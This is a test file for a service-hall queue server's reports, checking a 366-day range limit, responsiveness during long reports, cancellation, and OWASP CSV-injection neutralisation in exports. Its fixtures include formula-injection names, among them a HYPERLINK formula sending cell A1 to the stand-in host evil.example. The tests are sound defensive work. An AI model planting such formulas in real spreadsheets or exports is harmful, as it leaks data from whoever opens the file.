// Issue 23, findings 3 and 16, through the real server (HTTP, its SQLite file): a long report range is
// bounded (a clear 400 past 366 days), a year's report is computed without holding up a clerk's call-next,
// and the exports neutralise names a spreadsheet would take for formulas.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedHistory } from '../../scripts/seed-history';
import { FakeClock, client, startTestHall, testConfig, testConfigInput } from '../helpers/hall';
import { parseConfig } from '../../server/config/load';
import { ReportStore } from '../../server/store/reports';
import { stringify } from 'yaml';

const clock = new FakeClock(); // Monday 2026-11-23 09:00 in Shanghai
const TODAY = '2026-11-23';
const YEAR_AGO = '2025-11-23'; // 366 days with today
let s: Awaited<ReturnType<typeof startTestHall>>;
let api: ReturnType<typeof client>;
let sup: string;
let w1: string;

// Names an insider could give a service, a window or a clerk (admin config) to run formulas in Excel.
const input = testConfigInput(4);
input.services[1]!.name = '=HYPERLINK("http://evil.example/?"&A1,"税务")';
input.windows[1]!.name = '+1-2';
input.clerks!.find((c) => c.id === 'c1')!.name = '@SUM(1)';
input.clerks!.find((c) => c.id === 'c2')!.name = '-3+4';

beforeAll(async () => {
  s = await startTestHall({
    clock: clock.fn,
    config: parseConfig(stringify(input), 'test'),
    sweepMs: 3_600_000,
    watchMs: 3_600_000,
  });
  api = client(s.url);
  // A year of history: 200 visits a day, every window and clerk.
  seedHistory(s.db, {
    days: 365,
    perDay: 200,
    services: testConfig().services,
    today: TODAY,
    windows: 4,
    clerkOf: (w) => `c${w}`,
  });
  sup = await api.login('sup');
  w1 = await api.login('c1', 1);
  for (let i = 0; i < 60; i++) await api.issue('general');
}, 120_000);
afterAll(async () => s?.stop());

describe('report ranges', () => {
  it('past 366 days: 400 RANGE_TOO_LONG with the limit, for figures, exports and the printable report', async () => {
    for (const q of [
      '/api/reports?from=2000-01-01&to=2100-01-01&by=day',
      `/api/reports?from=2025-11-22&to=${TODAY}`,
      '/api/reports/export?from=2000-01-01&to=2100-01-01&format=xlsx',
      '/api/reports/export?from=2000-01-01&to=2100-01-01&format=csv',
      '/api/reports/print?from=2000-01-01&to=2100-01-01',
    ]) {
      const r = await api.get(q, sup);
      expect(r.status, q).toBe(400);
      expect(r.body.error.code, q).toBe('RANGE_TOO_LONG');
      expect(r.body.error.message, q).toContain('366');
    }
  });

  it('a year by service and by day: the figures, while call-next keeps answering promptly', async () => {
    for (const by of ['service', 'day']) {
      const started = performance.now();
      let reportMs = 0;
      const report = api.get(`/api/reports?from=${YEAR_AGO}&to=${TODAY}&by=${by}`, sup).then((r) => {
        reportMs = performance.now() - started;
        return r;
      });
      const lat: number[] = [];
      while (!reportMs) {
        const t = performance.now();
        const r = await api.post('/api/windows/1/call-next', {}, w1);
        expect(r.status).toBe(200);
        lat.push(performance.now() - t);
        await new Promise((r) => setTimeout(r, 10));
      }
      const r = await report;
      expect(r.status).toBe(200);
      expect(r.body.total.tickets).toBeGreaterThanOrEqual(365 * 200);
      if (by === 'day') expect(r.body.rows).toHaveLength(366);
      // The report runs in slices: a call-next waits a slice, never the whole report.
      expect(lat.length).toBeGreaterThan(2);
      expect(Math.max(...lat)).toBeLessThan(reportMs / 3);
    }
  }, 120_000);

  it('a year asked for and abandoned: the server stops reading as soon as the asker is gone', async () => {
    // The core's stores are private: the page reads are counted on the store's prototype.
    const original = ReportStore.prototype.visitsPage;
    let pages = 0;
    ReportStore.prototype.visitsPage = function (this: ReportStore, ...args) {
      pages++;
      return original.apply(this, args);
    };
    try {
      const ac = new AbortController();
      const asked = fetch(`${s.url}/api/reports?from=${YEAR_AGO}&to=${TODAY}&by=day`, {
        headers: { authorization: `Bearer ${sup}` },
        signal: ac.signal,
      }).catch(() => null);
      await new Promise((r) => setTimeout(r, 300));
      expect(pages).toBeGreaterThan(0);
      ac.abort();
      await asked;
      await new Promise((r) => setTimeout(r, 200));
      const stoppedAt = pages;
      await new Promise((r) => setTimeout(r, 500));
      expect(pages).toBe(stoppedAt);
      expect(pages).toBeLessThan(366); // a year by day is at least 366 pages
    } finally {
      ReportStore.prototype.visitsPage = original;
    }
  }, 30_000);

  it('a year as XLSX (every grouping) and the printable report', async () => {
    const res = await fetch(`${s.url}/api/reports/export?from=${YEAR_AGO}&to=${TODAY}&format=xlsx`, {
      headers: { authorization: `Bearer ${sup}` },
    });
    expect(res.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    expect(wb.getWorksheet('按日')!.rowCount).toBe(1 + 366 + 1);
    const print = await api.get(`/api/reports/print?from=${YEAR_AGO}&to=${TODAY}`, sup);
    expect(print.status).toBe(200);
    expect(print.body as string).toContain('<svg');
  }, 60_000);
});

describe('exports neutralise formula text (OWASP CSV injection)', () => {
  const csv = async (by: string) => {
    const res = await fetch(`${s.url}/api/reports/export?from=${YEAR_AGO}&to=${TODAY}&by=${by}&format=csv`, {
      headers: { authorization: `Bearer ${sup}` },
    });
    return new TextDecoder()
      .decode(await res.arrayBuffer())
      .trimEnd()
      .split('\r\n');
  };

  it('CSV: names starting with = + - @ are prefixed with an apostrophe; numbers stay numbers', async () => {
    const services = await csv('service');
    const tax = services.find((l) => l.includes('HYPERLINK'))!;
    expect(tax.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""税务"")"`)).toBe(true);
    // The numeric cells after the name are plain numbers (no apostrophe, no quotes).
    expect(tax.split('",')[1]).toMatch(/^\d+,\d+,\d+,\d+,[\d.]+,/);
    const windows = await csv('window');
    expect(windows.some((l) => l.startsWith("'+1-2,"))).toBe(true);
    const clerks = await csv('clerk');
    expect(clerks.some((l) => l.startsWith("'@SUM(1),"))).toBe(true);
    expect(clerks.some((l) => l.startsWith("'-3+4,"))).toBe(true);
    for (const l of [...services, ...windows, ...clerks].slice(1)) expect(l).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('XLSX: the same names as text with the apostrophe, figures as numbers', async () => {
    const res = await fetch(`${s.url}/api/reports/export?from=${YEAR_AGO}&to=${TODAY}&format=xlsx`, {
      headers: { authorization: `Bearer ${sup}` },
    });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(await res.arrayBuffer());
    const names = (sheet: string) =>
      (wb.getWorksheet(sheet)!.getSheetValues().slice(2) as unknown[][]).map((r) => r[1]);
    expect(names('按事项')).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"税务")`);
    expect(names('按窗口')).toContain("'+1-2");
    expect(names('按人员')).toEqual(expect.arrayContaining(["'@SUM(1)", "'-3+4"]));
    const row = wb.getWorksheet('按人员')!.getRow(2);
    expect(typeof row.getCell(2).value).toBe('number');
  }, 60_000);
});
